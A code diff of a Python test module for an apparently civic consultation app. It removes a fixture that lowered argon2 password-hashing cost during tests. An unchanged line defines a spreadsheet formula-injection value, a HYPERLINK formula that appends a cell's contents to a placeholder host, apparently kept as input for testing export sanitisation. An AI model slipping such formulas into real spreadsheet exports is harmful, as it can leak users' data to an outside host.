@@ -9,9 +9,7 @@ from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
 import pytest
-from argon2 import PasswordHasher
 
-from consult.accounts import services as accounts
 from consult.amendments import proposing, supports
 from consult.comments import moderation
 from consult.comments import services as comments
@@ -22,11 +20,6 @@ from tests.factories import sign_in
 
 SPANISH = (Path(__file__).parent / "data" / "plan-estructurado.es.txt").read_text()
 FORMULA = '=HYPERLINK("http://x.example?"&A1)'
-
-
-@pytest.fixture(autouse=True)
-def cheap_password_hashing(monkeypatch):
-    monkeypatch.setattr(accounts, "_hasher", PasswordHasher(time_cost=1, memory_cost=1024))
 
 
 @pytest.fixture
